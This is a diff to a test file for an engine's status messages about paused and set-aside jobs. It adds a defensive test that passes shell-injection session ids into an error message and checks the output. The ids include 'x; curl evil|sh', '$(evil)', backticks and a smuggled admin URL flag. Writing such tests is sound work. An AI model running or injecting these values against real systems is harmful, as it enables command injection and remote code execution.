@@ -22,7 +22,7 @@ test('another one that the engine paused says what the engine said', () => {
     kind: 'paused',
     invocation: id,
     needsResume: true,
-    message: `The engine has paused it: no disk Mend what is wrong.${resume}`,
+    message: `The engine has paused it: no disk. Fix the cause.${resume}`,
   })
   expect(stalledOf({ id, status: 'paused', failure: null })?.message).toContain('somebody asked for that')
 })
@@ -47,3 +47,10 @@ test('one that is set aside says why, where, and how it is released', () => {
 test('one that is tried again is none', () => {
   expect(stalledOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
 })
+
+test.each(['x; curl evil|sh', '$(evil)', '--admin=http://evil', 'a\nb', '`evil`'])(
+  'an id that a shell would obey is in no command of one that is set aside: %j',
+  (session) => {
+    expect(new SetAsideError(session, []).message).toMatch(/halting sessions release ID --cluster URL$/)
+  },
+)
